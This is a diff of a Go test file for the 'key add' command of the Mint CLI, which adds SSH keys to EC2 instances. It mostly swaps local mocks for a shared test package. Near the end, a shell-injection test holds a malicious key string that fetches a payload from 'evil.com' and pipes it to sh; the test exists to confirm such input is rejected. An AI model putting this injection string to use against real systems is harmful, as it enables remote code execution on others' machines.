@@ -2,20 +2,17 @@ package cmd
 
 import (
 	"bytes"
-	"context"
 	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
+	"github.com/SpiceLabsHQ/Mint/cmd/internal/cmdtest"
+	"github.com/SpiceLabsHQ/Mint/internal/sshconfig"
 	"github.com/aws/aws-sdk-go-v2/service/ec2"
 	"github.com/aws/aws-sdk-go-v2/service/ec2instanceconnect"
-	"github.com/SpiceLabsHQ/Mint/internal/cli"
-	"github.com/SpiceLabsHQ/Mint/internal/sshconfig"
 	"github.com/spf13/cobra"
-
-	mintaws "github.com/SpiceLabsHQ/Mint/internal/aws"
 )
 
 // testEd25519Key is a valid ed25519 public key for testing.
@@ -27,63 +24,6 @@ const testRSAKey = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7test1234 test@host"
 // testECDSAKey is a valid ECDSA public key for testing.
 const testECDSAKey = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBE/test test@host"
 
-// keyMockRemote captures remote command invocations for key add testing.
-type keyMockRemote struct {
-	calls  []keyMockRemoteCall
-	output []byte
-	err    error
-}
-
-type keyMockRemoteCall struct {
-	instanceID string
-	az         string
-	host       string
-	port       int
-	user       string
-	command    []string
-}
-
-func (m *keyMockRemote) run(
-	ctx context.Context,
-	sendKey mintaws.SendSSHPublicKeyAPI,
-	instanceID string,
-	az string,
-	host string,
-	port int,
-	user string,
-	command []string,
-) ([]byte, error) {
-	m.calls = append(m.calls, keyMockRemoteCall{
-		instanceID: instanceID,
-		az:         az,
-		host:       host,
-		port:       port,
-		user:       user,
-		command:    command,
-	})
-	return m.output, m.err
-}
-
-// newTestRootForKey creates a minimal root command for key tests.
-func newTestRootForKey() *cobra.Command {
-	root := &cobra.Command{
-		Use:           "mint",
-		SilenceUsage:  true,
-		SilenceErrors: true,
-		PersistentPreRunE: func(cmd *cobra.Command, args []string) error {
-			cliCtx := cli.NewCLIContext(cmd)
-			cmd.SetContext(cli.WithContext(context.Background(), cliCtx))
-			return nil
-		},
-	}
-	root.PersistentFlags().Bool("verbose", false, "Show progress steps")
-	root.PersistentFlags().Bool("debug", false, "Show AWS SDK details")
-	root.PersistentFlags().Bool("json", false, "Machine-readable JSON output")
-	root.PersistentFlags().Bool("yes", false, "Skip confirmation on destructive operations")
-	root.PersistentFlags().String("vm", "default", "Target VM name")
-	return root
-}
-
 func TestKeyAddValidatesKeyFormat(t *testing.T) {
 	tests := []struct {
 		name    string
@@ -198,19 +138,19 @@ func TestKeyAddReadsFromFile(t *testing.T) {
 		t.Fatalf("write key file: %v", err)
 	}
 
-	remote := &keyMockRemote{output: []byte{}} // grep returns empty (no match)
+	remote := &cmdtest.RemoteRunner{Output: []byte{}} // grep returns empty (no match)
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:abc123", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -224,26 +164,26 @@ func TestKeyAddReadsFromFile(t *testing.T) {
 	}
 
 	// Should have called remote runner twice: grep check + echo append.
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls, got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls, got %d", len(remote.Calls()))
 	}
 
 	// First call should be a single-element grep command.
-	grepCall := remote.calls[0]
-	if len(grepCall.command) != 1 {
-		t.Errorf("grep call should be a single-element command slice, got %d elements: %v", len(grepCall.command), grepCall.command)
+	grepCall := remote.Calls()[0]
+	if len(grepCall.Command) != 1 {
+		t.Errorf("grep call should be a single-element command slice, got %d elements: %v", len(grepCall.Command), grepCall.Command)
 	}
-	if !strings.Contains(grepCall.command[0], "grep -F") {
-		t.Errorf("first remote call should contain 'grep -F', got: %v", grepCall.command)
+	if !strings.Contains(grepCall.Command[0], "grep -F") {
+		t.Errorf("first remote call should contain 'grep -F', got: %v", grepCall.Command)
 	}
 
 	// Second call should be the append command as a single element.
-	appendCall := remote.calls[1]
-	if len(appendCall.command) != 1 {
-		t.Errorf("append call should be a single-element command slice, got %d elements: %v", len(appendCall.command), appendCall.command)
+	appendCall := remote.Calls()[1]
+	if len(appendCall.Command) != 1 {
+		t.Errorf("append call should be a single-element command slice, got %d elements: %v", len(appendCall.Command), appendCall.Command)
 	}
-	if !strings.Contains(appendCall.command[0], "authorized_keys") {
-		t.Errorf("second remote call should append to authorized_keys, got: %v", appendCall.command)
+	if !strings.Contains(appendCall.Command[0], "authorized_keys") {
+		t.Errorf("second remote call should append to authorized_keys, got: %v", appendCall.Command)
 	}
 
 	// Output should mention the fingerprint.
@@ -254,19 +194,19 @@ func TestKeyAddReadsFromFile(t *testing.T) {
 }
 
 func TestKeyAddReadsFromStdin(t *testing.T) {
-	remote := &keyMockRemote{output: []byte{}} // grep returns empty (no match)
+	remote := &cmdtest.RemoteRunner{Output: []byte{}} // grep returns empty (no match)
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:stdin123", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -282,8 +222,8 @@ func TestKeyAddReadsFromStdin(t *testing.T) {
 		t.Fatalf("unexpected error: %v", err)
 	}
 
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls, got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls, got %d", len(remote.Calls()))
 	}
 
 	output := buf.String()
@@ -293,19 +233,19 @@ func TestKeyAddReadsFromStdin(t *testing.T) {
 }
 
 func TestKeyAddAcceptsInlineKey(t *testing.T) {
-	remote := &keyMockRemote{output: []byte{}} // grep returns empty (no match)
+	remote := &cmdtest.RemoteRunner{Output: []byte{}} // grep returns empty (no match)
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:inline123", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -320,26 +260,26 @@ func TestKeyAddAcceptsInlineKey(t *testing.T) {
 		t.Fatalf("unexpected error: %v", err)
 	}
 
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls, got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls, got %d", len(remote.Calls()))
 	}
 }
 
 func TestKeyAddDetectsDuplicate(t *testing.T) {
 	// grep returns the key (meaning it already exists).
-	remote := &keyMockRemote{output: []byte(testEd25519Key)}
+	remote := &cmdtest.RemoteRunner{Output: []byte(testEd25519Key)}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:dup123", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -353,8 +293,8 @@ func TestKeyAddDetectsDuplicate(t *testing.T) {
 	}
 
 	// Should only have called grep (no append).
-	if len(remote.calls) != 1 {
-		t.Fatalf("expected 1 remote call (grep only), got %d", len(remote.calls))
+	if len(remote.Calls()) != 1 {
+		t.Fatalf("expected 1 remote call (grep only), got %d", len(remote.Calls()))
 	}
 
 	output := buf.String()
@@ -364,19 +304,19 @@ func TestKeyAddDetectsDuplicate(t *testing.T) {
 }
 
 func TestKeyAddVMNotFound(t *testing.T) {
-	remote := &keyMockRemote{}
+	remote := &cmdtest.RemoteRunner{}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: &ec2.DescribeInstancesOutput{}},
-		sendKey:        &mockSendSSHPublicKey{},
+		describe:       &cmdtest.DescribeInstances{Output: &ec2.DescribeInstancesOutput{}},
+		sendKey:        &cmdtest.SendSSHPublicKey{},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 test", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -394,19 +334,19 @@ func TestKeyAddVMNotFound(t *testing.T) {
 }
 
 func TestKeyAddVMNotRunning(t *testing.T) {
-	remote := &keyMockRemote{}
+	remote := &cmdtest.RemoteRunner{}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeStoppedInstanceForSSH("i-abc123", "default", "alice")},
-		sendKey:        &mockSendSSHPublicKey{},
+		describe:       &cmdtest.DescribeInstances{Output: makeStoppedInstanceForSSH("i-abc123", "default", "alice")},
+		sendKey:        &cmdtest.SendSSHPublicKey{},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 test", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -424,19 +364,19 @@ func TestKeyAddVMNotRunning(t *testing.T) {
 }
 
 func TestKeyAddRemoteRunnerError(t *testing.T) {
-	remote := &keyMockRemote{err: fmt.Errorf("connection refused")}
+	remote := &cmdtest.RemoteRunner{Err: fmt.Errorf("connection refused")}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -454,19 +394,19 @@ func TestKeyAddRemoteRunnerError(t *testing.T) {
 }
 
 func TestKeyAddNonDefaultVM(t *testing.T) {
-	remote := &keyMockRemote{output: []byte{}}
+	remote := &cmdtest.RemoteRunner{Output: []byte{}}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-dev456", "dev", "alice", "10.0.0.1", "us-west-2a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-dev456", "dev", "alice", "10.0.0.1", "us-west-2a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:devkey", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -480,27 +420,27 @@ func TestKeyAddNonDefaultVM(t *testing.T) {
 	}
 
 	// Remote calls should target the right host.
-	if len(remote.calls) < 1 {
+	if len(remote.Calls()) < 1 {
 		t.Fatal("expected at least 1 remote call")
 	}
-	if remote.calls[0].host != "10.0.0.1" {
-		t.Errorf("expected host 10.0.0.1, got %s", remote.calls[0].host)
+	if remote.Calls()[0].Host != "10.0.0.1" {
+		t.Errorf("expected host 10.0.0.1, got %s", remote.Calls()[0].Host)
 	}
 }
 
 func TestKeyAddNoArgument(t *testing.T) {
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{},
 		owner:          "alice",
-		remoteRunner:   (&keyMockRemote{}).run,
+		remoteRunner:   (&cmdtest.RemoteRunner{}).Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 test", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -515,19 +455,19 @@ func TestKeyAddNoArgument(t *testing.T) {
 }
 
 func TestKeyAddRemoteCommandConstruction(t *testing.T) {
-	remote := &keyMockRemote{output: []byte{}}
+	remote := &cmdtest.RemoteRunner{Output: []byte{}}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:verify", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -540,19 +480,19 @@ func TestKeyAddRemoteCommandConstruction(t *testing.T) {
 		t.Fatalf("unexpected error: %v", err)
 	}
 
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls, got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls, got %d", len(remote.Calls()))
 	}
 
 	// Verify grep call is a single-element command containing the complete compound invocation.
 	// SSH joins multi-element command slices with spaces on the remote side, which breaks
 	// compound commands — so the entire remote command must be a single string.
-	grepCall := remote.calls[0]
-	if len(grepCall.command) != 1 {
+	grepCall := remote.Calls()[0]
+	if len(grepCall.Command) != 1 {
 		t.Fatalf("grep call must be a single-element slice (complete compound command), got %d elements: %v",
-			len(grepCall.command), grepCall.command)
+			len(grepCall.Command), grepCall.Command)
 	}
-	grepScript := grepCall.command[0]
+	grepScript := grepCall.Command[0]
 	if !strings.Contains(grepScript, "grep -F") {
 		t.Errorf("grep command should contain 'grep -F', got: %s", grepScript)
 	}
@@ -566,31 +506,31 @@ func TestKeyAddRemoteCommandConstruction(t *testing.T) {
 	if !strings.Contains(grepScript, "ssh-ed25519") {
 		t.Errorf("grep command should contain the key content (single-quote embedded), got: %s", grepScript)
 	}
-	if grepCall.instanceID != "i-abc123" {
-		t.Errorf("wrong instance ID: %s", grepCall.instanceID)
+	if grepCall.InstanceID != "i-abc123" {
+		t.Errorf("wrong instance ID: %s", grepCall.InstanceID)
 	}
-	if grepCall.az != "us-east-1a" {
-		t.Errorf("wrong AZ: %s", grepCall.az)
+	if grepCall.AZ != "us-east-1a" {
+		t.Errorf("wrong AZ: %s", grepCall.AZ)
 	}
-	if grepCall.host != "1.2.3.4" {
-		t.Errorf("wrong host: %s", grepCall.host)
+	if grepCall.Host != "1.2.3.4" {
+		t.Errorf("wrong host: %s", grepCall.Host)
 	}
-	if grepCall.port != defaultSSHPort {
-		t.Errorf("wrong port: %d", grepCall.port)
+	if grepCall.Port != defaultSSHPort {
+		t.Errorf("wrong port: %d", grepCall.Port)
 	}
-	if grepCall.user != defaultSSHUser {
-		t.Errorf("wrong user: %s", grepCall.user)
+	if grepCall.User != defaultSSHUser {
+		t.Errorf("wrong user: %s", grepCall.User)
 	}
 
 	// Verify the append call is a single-element command containing the complete
 	// mkdir+printf compound command. The key must be embedded (single-quote wrapped)
 	// in the command string — not split off as a separate positional argument.
-	appendCall := remote.calls[1]
-	if len(appendCall.command) != 1 {
+	appendCall := remote.Calls()[1]
+	if len(appendCall.Command) != 1 {
 		t.Fatalf("append call must be a single-element slice (complete compound command), got %d elements: %v",
-			len(appendCall.command), appendCall.command)
+			len(appendCall.Command), appendCall.Command)
 	}
-	appendScript := appendCall.command[0]
+	appendScript := appendCall.Command[0]
 	if !strings.Contains(appendScript, "mkdir -p") {
 		t.Errorf("append command should contain 'mkdir -p' for the .ssh directory: %s", appendScript)
 	}
@@ -618,19 +558,19 @@ func TestKeyAddRemoteCommandConstruction(t *testing.T) {
 // remote shell receives the complete compound command (mkdir+printf or grep+||true)
 // verbatim.
 func TestKeyAddSingleElementCommandSlice(t *testing.T) {
-	remote := &keyMockRemote{output: []byte{}} // grep returns empty (no match)
+	remote := &cmdtest.RemoteRunner{Output: []byte{}} // grep returns empty (no match)
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:single", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -642,27 +582,27 @@ func TestKeyAddSingleElementCommandSlice(t *testing.T) {
 		t.Fatalf("unexpected error: %v", err)
 	}
 
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls, got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls, got %d", len(remote.Calls()))
 	}
 
 	// Both remote calls must be single-element slices. A multi-element slice
 	// would cause SSH to break the compound command across separate args.
-	for i, call := range remote.calls {
-		if len(call.command) != 1 {
+	for i, call := range remote.Calls() {
+		if len(call.Command) != 1 {
 			t.Errorf("call[%d]: expected single-element command slice (prevents SSH arg-splitting), got %d elements: %v",
-				i, len(call.command), call.command)
+				i, len(call.Command), call.Command)
 		}
 	}
 
 	// The grep command must contain the full compound expression in one string.
-	grepCmd := remote.calls[0].command[0]
+	grepCmd := remote.Calls()[0].Command[0]
 	if !strings.Contains(grepCmd, "grep -F") || !strings.Contains(grepCmd, "|| true") {
 		t.Errorf("grep command must be a complete compound invocation (grep -F ... || true) in a single string, got: %s", grepCmd)
 	}
 
 	// The append command must contain the full mkdir+printf compound command.
-	appendCmd := remote.calls[1].command[0]
+	appendCmd := remote.Calls()[1].Command[0]
 	if !strings.Contains(appendCmd, "mkdir -p") || !strings.Contains(appendCmd, "&&") {
 		t.Errorf("append command must be a complete compound invocation (mkdir -p ... && printf ...) in a single string, got: %s", appendCmd)
 	}
@@ -686,20 +626,20 @@ func TestKeyCommandParentHasAddSubcommand(t *testing.T) {
 
 func TestKeyAddTOFUHostKeyVerification(t *testing.T) {
 	// First connection should record the key.
-	remote := &keyMockRemote{output: []byte{}}
+	remote := &cmdtest.RemoteRunner{Output: []byte{}}
 	store := sshconfig.NewHostKeyStore(t.TempDir())
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   store,
 		hostKeyScanner: mockHostKeyScanner("SHA256:tofufp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:added", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -729,19 +669,19 @@ func TestKeyAddTOFUHostKeyMismatch(t *testing.T) {
 		t.Fatalf("RecordKey: %v", err)
 	}
 
-	remote := &keyMockRemote{output: []byte{}}
+	remote := &cmdtest.RemoteRunner{Output: []byte{}}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   store,
 		hostKeyScanner: mockHostKeyScanner("SHA256:newfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINew", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -758,8 +698,8 @@ func TestKeyAddTOFUHostKeyMismatch(t *testing.T) {
 	}
 
 	// Remote runner should NOT have been called.
-	if len(remote.calls) != 0 {
-		t.Errorf("remote runner should not be called on host key mismatch, got %d calls", len(remote.calls))
+	if len(remote.Calls()) != 0 {
+		t.Errorf("remote runner should not be called on host key mismatch, got %d calls", len(remote.Calls()))
 	}
 }
 
@@ -768,19 +708,19 @@ func TestKeyAddRejectsShellInjection(t *testing.T) {
 	// This must be rejected by character validation before reaching the remote runner.
 	maliciousKey := "ssh-ed25519 AAAA' ; curl evil.com/payload | sh ; echo '"
 
-	remote := &keyMockRemote{output: []byte{}}
+	remote := &cmdtest.RemoteRunner{Output: []byte{}}
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -797,8 +737,8 @@ func TestKeyAddRejectsShellInjection(t *testing.T) {
 	}
 
 	// The remote runner must NOT have been called at all.
-	if len(remote.calls) != 0 {
-		t.Errorf("remote runner should not be called for malicious key, got %d calls", len(remote.calls))
+	if len(remote.Calls()) != 0 {
+		t.Errorf("remote runner should not be called for malicious key, got %d calls", len(remote.Calls()))
 	}
 }
 
